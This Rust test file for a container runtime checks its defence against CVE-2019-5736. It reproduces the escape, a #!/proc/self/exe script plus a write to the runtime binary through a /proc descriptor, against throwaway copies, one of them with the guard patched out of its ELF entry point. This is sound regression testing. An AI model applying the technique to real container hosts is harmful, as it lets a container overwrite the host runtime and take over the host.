//! CVE-2019-5736: a cell makes the kernel resolve /proc/self/exe to the runtime and writes to it.
//!
//! The attacker's part is played with a descriptor of /proc/PID/exe, taken while the cell's first
//! process is still the runtime: it is the same file on the same mount that a process inside
//! gets. The runtime is a copy, so that a successful attack harms nothing.

mod support;

use serde_json::json;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use support::programs::{install, write_program};
use support::{Bundle, GPUCELL, outcome};

const MARK: &[u8] = b"overwritten from inside";

/// A script whose interpreter is the runtime itself, which ends at once for want of a command; what counts
/// is that the kernel let it run.
fn script(b: &Bundle) {
    write_program(b.rootfs().join("bin/attack"), "#!/proc/self/exe\n");
}

fn command(runtime: &Path, b: &Bundle, args: &[&str]) -> Command {
    let mut command = Command::new(runtime);
    command.arg("--root").arg(b.state()).args(args);
    command
}

/// Runs the attack against the runtime at `runtime`; true when its file was overwritten.
fn attack(runtime: &Path, id: &str) -> bool {
    let b = Bundle::new().edit(|c| c["process"]["args"] = json!(["/bin/attack"]));
    script(&b);
    let call = |args: &[&str]| outcome(&mut command(runtime, &b, args));
    b.create(runtime, id);
    let state: serde_json::Value = serde_json::from_str(&call(&["state", id]).ok().out).unwrap();
    let exe = File::open(format!("/proc/{}/exe", state["pid"])).unwrap();
    call(&["start", id]).ok();
    call(&["delete", "--force", id]).ok();
    overwritten(runtime, &exe)
}

/// The same by `exec` into a running cell, which is paused meanwhile so that there is time to get at what
/// joins it.
fn attack_exec(runtime: &Path, id: &str) -> bool {
    let b = Bundle::new().edit(|c| c["process"]["args"] = json!(["/bin/hello", "sleep", "1000"]));
    script(&b);
    let call = |args: &[&str]| outcome(&mut command(runtime, &b, args));
    b.create(runtime, id);
    call(&["start", id]).ok();
    call(&["pause", id]).ok();
    let mut joining = command(runtime, &b, &["exec", "--ignore-paused", id, "/bin/attack"]);
    let joining = joining.stdin(Stdio::null()).stderr(Stdio::null());
    let mut joining = joining.spawn().unwrap();
    let children = format!("/proc/{0}/task/{0}/children", joining.id());
    let mut child = String::new();
    for _ in 0..2000 {
        child = fs::read_to_string(&children).unwrap_or_default();
        if !child.is_empty() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let exe = File::open(format!("/proc/{}/exe", child.trim())).unwrap();
    call(&["resume", id]).ok();
    // What the runtime says without a command: it was executed.
    let done = joining.wait().unwrap();
    assert!(matches!(done.code(), Some(1 | 2)), "{done}");
    call(&["delete", "--force", id]).ok();
    overwritten(runtime, &exe)
}

/// Writes to the runtime's file by way of a descriptor of it, if that is possible.
fn overwritten(runtime: &Path, exe: &File) -> bool {
    let before = fs::read(runtime).unwrap();
    let reopened = OpenOptions::new()
        .write(true)
        .truncate(true)
        .open(format!("/proc/self/fd/{}", exe.as_raw_fd()));
    let wrote = match reopened {
        Ok(mut file) => file.write_all(MARK).is_ok(),
        Err(e) => {
            assert_eq!(e.raw_os_error(), Some(libc::EROFS), "{e}");
            false
        }
    };
    let overwritten = fs::read(runtime).unwrap() != before;
    assert_eq!(wrote, overwritten);
    overwritten
}

/// A copy of the runtime whose entry point is libc's `_start`: without the guard.
fn without_guard(copy: &Path) {
    let symbols = Command::new("nm")
        .arg(copy)
        .output()
        .expect("nm (binutils)");
    let text = String::from_utf8(symbols.stdout).unwrap();
    let start = text
        .lines()
        .find_map(|l| l.strip_suffix(" t _start").or(l.strip_suffix(" T _start")))
        .expect("the symbol _start");
    let start = u64::from_str_radix(start, 16).unwrap();
    let mut elf = fs::read(copy).unwrap();
    // e_entry of Elf64_Ehdr (elf(5)).
    elf[24..32].copy_from_slice(&start.to_le_bytes());
    write_program(copy, elf);
}

fn copy(dir: &Path) -> PathBuf {
    let copy = dir.join("runtime");
    install(GPUCELL, &copy);
    copy
}

#[test]
fn the_runtimes_file_is_out_of_reach() {
    let dir = tempfile::tempdir().unwrap();
    let copy = copy(dir.path());
    assert!(!attack(&copy, "gpucell-test-exe"));
    assert!(!attack_exec(&copy, "gpucell-test-exe-exec"));
}

#[test]
fn without_the_guard_the_attack_succeeds() {
    let dir = tempfile::tempdir().unwrap();
    let copy = copy(dir.path());
    without_guard(&copy);
    assert!(attack(&copy, "gpucell-test-exe-bare"));
    // Overwritten: another one.
    let dir = tempfile::tempdir().unwrap();
    let copy = self::copy(dir.path());
    without_guard(&copy);
    assert!(attack_exec(&copy, "gpucell-test-exe-bare-exec"));
}

/// Without privileges the runtime executes itself from a sealed memfd.
#[test]
fn an_unprivileged_runtime_runs_from_a_sealed_copy() {
    let dir = tempfile::tempdir().unwrap();
    fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let copy = copy(dir.path());
    let trace = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
        .args(["strace", "-e", "trace=execveat,memfd_create,fcntl"])
        .arg(&copy)
        .args(["create", "--bundle", "/nonexistent", "x"])
        .output()
        .expect("setpriv and strace");
    let text = String::from_utf8_lossy(&trace.stderr);
    for step in ["memfd_create(", "F_ADD_SEALS", "execveat("] {
        assert!(text.contains(step), "no {step} in {text}");
    }
    assert!(text.contains("/nonexistent"), "it ran on: {text}");
}
